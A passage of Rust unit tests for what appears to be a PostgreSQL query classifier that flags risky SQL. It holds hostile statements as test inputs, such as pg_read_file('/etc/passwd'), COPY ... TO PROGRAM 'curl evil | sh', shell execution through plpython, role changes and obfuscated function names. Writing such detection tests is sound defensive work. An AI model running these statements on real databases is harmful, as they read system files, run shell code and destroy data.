        let s = one("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))");
        assert!(s.flags.contains(&Flag::SideEffectFunction));
        let s = one("SELECT * FROM pg_catalog.pg_ls_dir('.')");
        assert!(s.flags.contains(&Flag::SideEffectFunction));
        let s = one("SELECT lower(x) FROM t ORDER BY (SELECT dblink_exec('x', 'drop table t'))");
        assert!(s.flags.contains(&Flag::SideEffectFunction));
        assert!(s.functions.contains("lower"));
        let s = one("SELECT query_to_xml('delete from t', true, true, '')");
        assert!(s.flags.contains(&Flag::DynamicSql));
    }

    #[test]
    fn explain_is_judged_as_what_it_explains() {
        let s = one("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1");
        assert_eq!(s.kind(), Kind::Delete);
        assert!(s.flags.contains(&Flag::ExplainAnalyze));
        assert_eq!(one("EXPLAIN SELECT 1").kind(), Kind::Select);
    }

    #[test]
    fn copy_forms() {
        let s = one("COPY t TO PROGRAM 'sh -c id'");
        assert_eq!(s.kind(), Kind::CopyOut);
        assert!(s.flags.contains(&Flag::CopyProgram));
        let s = one("COPY t FROM '/etc/passwd'");
        assert_eq!(s.kind(), Kind::CopyIn);
        assert!(s.flags.contains(&Flag::ServerFile));
        assert!(s.writes.contains("public.t"));
        let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(s.kinds, vec![Kind::CopyOut, Kind::Delete]);
        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
        let s = one("TABLE secret.keys");
        assert!(s.tables.contains("secret.keys"));
        let s = one("SELECT \"PG_READ_FILE\"('x'), U&\"pg\\005fls_dir\"('.')");
        assert!(s.functions.contains("pg_ls_dir"), "{:?}", s.functions);
        let s = one("COPY (SELECT * FROM s.x) TO STDOUT");
        assert!(s.flags.is_empty());
        assert!(s.tables.contains("s.x"));
    }

    #[test]
    fn role_and_path_changes() {
        assert!(one("SET ROLE admin").flags.contains(&Flag::RoleChange));
        assert!(
            one("SET SESSION AUTHORIZATION admin")
                .flags
                .contains(&Flag::RoleChange)
        );
        assert!(
            one("SELECT set_config('role', 'admin', false)")
                .flags
                .contains(&Flag::RoleChange)
        );
        assert!(
            one("SELECT set_config($1, 'x', false)")
                .flags
                .contains(&Flag::RoleChange)
        );
        assert!(
            one("SET search_path = evil")
                .flags
                .contains(&Flag::SearchPathChange)
        );
        assert!(one("SET statement_timeout = 5").flags.is_empty());
        assert!(one("SET NAMES 'SJIS'").flags.contains(&Flag::LexerChange));
        assert!(
            one("SET standard_conforming_strings = off")
                .flags
                .contains(&Flag::LexerChange)
        );
        assert!(
            one("SELECT set_config('client_encoding', 'BIG5', false)")
                .flags
                .contains(&Flag::LexerChange)
        );
    }

    #[test]
    fn ctas_and_select_into_create_tables() {
        let s = one("CREATE TABLE x AS SELECT * FROM secret");
        assert_eq!(s.kind(), Kind::Ddl);
        assert!(s.flags.contains(&Flag::CreateTableAs));
        assert!(s.writes.contains("public.x"));
        let s = one("SELECT * INTO x FROM secret");
        assert_eq!(s.kind(), Kind::Ddl);
        assert!(s.writes.contains("public.x"));
    }

    #[test]
    fn do_is_judged_by_its_body() {
        let s = one("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM public.orders; END $$");
        assert_eq!(s.kinds, vec![Kind::Do, Kind::Select]);
        assert_eq!(s.tables.iter().collect::<Vec<_>>(), ["public.orders"]);
        assert!(s.flags.is_empty(), "{:?}", s.flags);
        let s = one("DO $$ BEGIN IF now() > '2020-01-01' THEN RAISE NOTICE 'x'; END IF; END $$");
        assert_eq!(
            s.kinds,
            vec![Kind::Do],
            "an expression without tables adds no kind"
        );
        let s = one(
            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM s.t LOOP              DELETE FROM s.t WHERE id = r.id; END LOOP; END $$",
        );
        assert_eq!(s.kind(), Kind::Do);
        assert!(s.kinds.contains(&Kind::Select) && s.kinds.contains(&Kind::Delete));
        assert!(s.writes.contains("s.t"));
        let s =
            one("DO $$ DECLARE x int := (SELECT max(id) FROM secret.k); BEGIN x := x + 1; END $$");
        assert!(
            s.tables.contains("secret.k"),
            "DECLARE defaults are classified"
        );
        let s = one("DO $$ DECLARE x int; BEGIN x := (SELECT max(id) FROM secret.k); END $$");
        assert!(s.tables.contains("secret.k"), "assignments are classified");
        let s =
            one("DO $$ DECLARE c CURSOR FOR SELECT * FROM secret.k; BEGIN OPEN c; CLOSE c; END $$");
        assert!(
            s.tables.contains("secret.k"),
            "cursor queries are classified"
        );
        let s = one("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); COMMIT; END $$");
        assert!(s.flags.contains(&Flag::SideEffectFunction));
        assert!(s.kinds.contains(&Kind::Transaction));
        // No dynamic SQL: no dynamic_sql flag.
        assert!(!s.flags.contains(&Flag::DynamicSql));
    }

    #[test]
    fn do_with_dynamic_sql_is_flagged_wherever_it_hides() {
        for sql in [
            "DO $$ BEGIN EXECUTE 'drop table t'; END $$",
            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
            "DO $$ BEGIN BEGIN BEGIN EXECUTE 'x'; END; END; END $$",
            "DO $$ BEGIN PERFORM 1; EXCEPTION WHEN others THEN EXECUTE 'delete from t'; END $$",
            "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$",
            "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$",
            "DO $$ BEGIN IF true THEN LOOP EXIT WHEN true; EXECUTE 'x'; END LOOP; END IF; END $$",
        ] {
            let s = one(sql);
            assert_eq!(s.kind(), Kind::Do, "{sql}");
            assert!(s.flags.contains(&Flag::DynamicSql), "{sql}");
        }
        let s = one("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$");
        assert!(
            s.functions.contains("format"),
            "the EXECUTE's expression is still classified"
        );
        let s = one(
            "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$",
        );
        assert_eq!(s.kind(), Kind::Ddl);
        assert!(s.flags.contains(&Flag::DynamicSql));
    }

    #[test]
    fn do_running_risky_sql_carries_its_flags() {
        let s = one("DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl evil | sh'; END $$");
        assert!(s.flags.contains(&Flag::CopyProgram));
        assert!(s.kinds.contains(&Kind::CopyOut));
        let s = one("DO $$ BEGIN SET ROLE postgres; END $$");
        assert!(s.flags.contains(&Flag::RoleChange));
        let s = one("DO $$ BEGIN DELETE FROM t; END $$");
        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
        assert!(s.kinds.contains(&Kind::Delete));
        let s = one("DO $outer$ BEGIN DO $inner$ BEGIN EXECUTE 'x'; END $inner$; END $outer$");
        assert!(
            s.flags.contains(&Flag::DynamicSql),
            "a DO inside a DO is analysed too"
        );
        let s = one("DO $$ BEGIN PERFORM 1 FROM hr.people WHERE ssn LIKE '5%'; END $$");
        assert!(s.columns.iter().any(|c| c.column == "ssn"));
    }

    #[test]
    fn unanalysable_procedural_code_is_refused() {
        for sql in [
            "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
            "DO LANGUAGE 'PLPGSQL' $$ BEGIN EXECUTE 'x'; END $$",
            "DO $$ BEGIN SELEC 1; END $$",
            "DO $$ DECLARE r record := (SELECT * FROM secret LIMIT 1); BEGIN END $$",
        ] {
            assert!(
                matches!(
                    classify(sql, 1 << 20),
                    Err(Unclassifiable::Unsupported(_) | Unclassifiable::Syntax(_))
                ),
                "{sql}: {:?}",
                classify(sql, 1 << 20)
            );
        }
        let mut nested = "SELECT 1".to_owned();
        for i in 0..10 {
            nested = format!("DO $d{i}$ BEGIN {nested}; END $d{i}$");
        }
        assert!(classify(&nested, 1 << 20).is_err(), "nesting is bounded");
    }

    #[test]
    fn function_bodies() {
        let s = one(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM audit.log RETURNING 1'",
        );
        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Delete]);
        assert!(s.tables.contains("audit.log"));
        let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'return 1'");
        assert_eq!(s.kind(), Kind::Ddl);
        assert!(s.flags.contains(&Flag::DynamicSql), "body not analysable");
        let s = one(
            "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$",
        );
        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Update]);
        assert!(!s.flags.contains(&Flag::DynamicSql));
    }

    #[test]
    fn prepare_is_its_query_and_execute_names_it() {
        let p = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
        assert_eq!(p.kind(), Kind::Delete);
        assert_eq!(p.prepared, Some(Prepared::Prepare("p".into())));
        let e = one("EXECUTE p(1)");
        assert_eq!(e.kind(), Kind::Execute);
        assert!(e.flags.contains(&Flag::DynamicSql));
        assert_eq!(e.prepared, Some(Prepared::Execute("p".into())));
        let mut ps = super::super::PreparedStatements::new();
        assert!(ps.resolve(&e).is_none(), "unknown name: judged as execute");
        ps.completed(&p);
        let r = ps.resolve(&e).unwrap();
        assert_eq!(r.kinds, vec![Kind::Delete]);
        assert!(r.writes.contains("public.t"));
        assert!(!r.flags.contains(&Flag::DynamicSql));
        assert_eq!(r.text, "EXECUTE p(1)");
        let e2 = one("EXECUTE p(length(pg_read_file('/etc/passwd')))");
        assert!(
            ps.resolve(&e2)
                .unwrap()
                .flags
                .contains(&Flag::SideEffectFunction)
        );
        ps.completed(&one("DEALLOCATE p"));
        assert!(ps.resolve(&e).is_none());
        ps.completed(&p);
        ps.completed(&one("DISCARD ALL"));
        assert!(ps.is_empty());
        ps.completed(&p);
        ps.completed(&one("DEALLOCATE ALL"));
        assert!(ps.is_empty());
    }

    #[test]
    fn multi_statement_is_split() {
        let v = classify("SELECT 1; DROP TABLE t; ", 1 << 20).unwrap();
        assert_eq!(v.len(), 2);
        assert_eq!(v[0].text, "SELECT 1");
        assert_eq!(v[1].text, "DROP TABLE t");
        assert_eq!(v[1].kind(), Kind::Ddl);
        assert!(classify("  -- nothing\n", 100).unwrap().is_empty());
    }

    #[test]
    fn unclassifiable() {
        assert!(matches!(
            classify("SELEC 1", 100),
            Err(Unclassifiable::Syntax(_))
        ));
        assert!(matches!(
            classify("SELECT 1", 3),
            Err(Unclassifiable::TooLong { .. })
        ));
        assert!(matches!(
            classify("SELECT '\0'", 100),
            Err(Unclassifiable::Nul)
        ));
    }
}
